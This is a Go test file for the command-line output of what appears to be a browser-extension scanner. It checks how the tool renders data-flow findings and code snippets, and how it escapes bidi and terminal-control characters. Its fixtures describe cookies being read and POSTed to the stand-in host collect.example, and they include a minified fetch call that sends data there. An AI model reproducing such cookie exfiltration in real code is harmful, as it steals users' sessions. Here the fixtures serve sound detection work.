package cli

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/extwatch/extwatch/signatures"
	"github.com/extwatch/extwatch/signatures/behavior"
)

func scene(file string, line, column int, what string) behavior.Step {
	return behavior.Step{Place: behavior.Place{File: file, Line: line, Column: column}, What: what}
}

func TestStories(t *testing.T) {
	t.Parallel()
	theft := behavior.Flow{Source: "cookies", Sink: "fetch", Host: "collect.example", Party: behavior.Stranger, Steps: []behavior.Step{
		scene("bg.js", 12, 3, "reads all cookies"), scene("bg.js", 15, 8, "JSON.stringify"), scene("bg.js", 18, 1, "POST to collect.example")}}
	other := behavior.Flow{Source: "page_text", Sink: "fetch", Host: "*", Party: behavior.Unknown, Steps: []behavior.Step{
		scene("a.js", 1, 1, "reads the page"), scene("a.js", 1, 1, "takes its text"), scene("a.js", 2, 1, "POST")}}
	odd := behavior.Flow{Source: "cookies", Sink: "image", Steps: []behavior.Step{scene("b\u202eg.js", 1, 2, "reads\x1b[2J"), scene("b\u202eg.js", 9, 2, "sends")}}
	var long behavior.Flow
	for i := range 40 {
		long.Steps = append(long.Steps, scene("l.js", i+1, 1, "goes on"))
	}
	code := &behavior.Report{Flows: []behavior.Flow{theft, other, odd, long, {Source: "none"}}}
	at := func(file string, line, column int) signatures.Evidence {
		return signatures.Evidence{Key: "flows", File: file, Line: line, Column: column}
	}
	for name, tt := range map[string]struct {
		evidence []signatures.Evidence
		want     []string
	}{
		"by its ends": {[]signatures.Evidence{at("bg.js", 12, 3), at("bg.js", 18, 1)},
			[]string{"bg.js:12 reads all cookies → bg.js:15 JSON.stringify → bg.js:18 POST to collect.example, not the vendor's host"}},
		"by what an update gained": {[]signatures.Evidence{{Key: "gained", Text: "flow: page_text -> fetch -> *"}},
			[]string{"a.js:1 reads the page, takes its text → a.js:2 POST, a host that cannot be told from the code"}},
		"of a file with a name that misleads": {[]signatures.Evidence{at(`b\u202eg.js`, 1, 2), at(`b\u202eg.js`, 9, 2)},
			[]string{"b<U+202E>g.js:1 reads<U+001B>[2J → b<U+202E>g.js:9 sends"}},
		"a long one": {[]signatures.Evidence{at("l.js", 1, 1), at("l.js", 40, 1)},
			[]string{"l.js:1 goes on → l.js:2 goes on → l.js:3 goes on → 33 steps between → l.js:37 goes on → l.js:38 goes on → l.js:39 goes on → l.js:40 goes on"}},
		"none": {[]signatures.Evidence{{Key: "permissions", Text: "cookies"}}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, stories(signatures.Finding{Evidence: tt.evidence}, code)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	if got := stories(signatures.Finding{Evidence: []signatures.Evidence{at("bg.js", 12, 3)}}, nil); got != nil {
		t.Errorf("without code: %q", got)
	}
}

func TestSnippet(t *testing.T) {
	t.Parallel()
	minified := strings.Repeat("var a=1;", 200) + `function s(e){if(e){let t="a;{b";fetch("https://collect.example/",{body:t})}}` + strings.Repeat("var b=2;", 200)
	files := fstest.MapFS{
		"a.js":     {Data: []byte("one();\n\tfetch(x); // \x1b[31m\u202e\nthree();\n")},
		"min.js":   {Data: []byte("/*! */\n" + minified)},
		"giant.js": {Data: []byte(strings.Repeat("x", 1<<20) + "y")},
	}
	for name, tt := range map[string]struct {
		at   spotIn
		want []string
	}{
		"a line":        {spotIn{"a.js", 2, 2}, []string{"> fetch(x); // <U+001B>[31m<U+202E>"}},
		"minified":      {spotIn{"min.js", 2, strings.Index(minified, "fetch") + 1}, []string{`  if(e){`, `    let t="a;{b";`, `>   fetch("https://collect.example/",{`, `      body:t`, `    })`}},
		"no such line":  {spotIn{"a.js", 9, 1}, nil},
		"no such place": {spotIn{"a.js", 1, 400}, nil},
		"no such file":  {spotIn{"b.js", 1, 1}, nil},
		"out of it":     {spotIn{"../b.js", 1, 1}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, snippet(files, tt.at)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
	for _, line := range snippet(files, spotIn{"giant.js", 1, 1 << 20}) {
		if cells(line) > maxCodeLine+len(codeMark) {
			t.Errorf("%d cells: %q", cells(line), line)
		}
	}
}

func FuzzSnippet(f *testing.F) {
	f.Add("a;{b}", 1, 3)
	f.Add(strings.Repeat("{};'", 300), 1, 700)
	f.Add("\n\n`\\", 3, 2)
	f.Fuzz(func(t *testing.T, code string, line, column int) {
		lines := snippet(fstest.MapFS{"a.js": {Data: []byte(code)}}, spotIn{"a.js", line, column})
		if len(lines) > maxSnippetLines {
			t.Errorf("%d lines", len(lines))
		}
		for _, l := range lines {
			if cells(l) > maxCodeLine+len(codeMark) || strings.ContainsFunc(l, hidden) {
				t.Errorf("%q", l)
			}
		}
	})
}
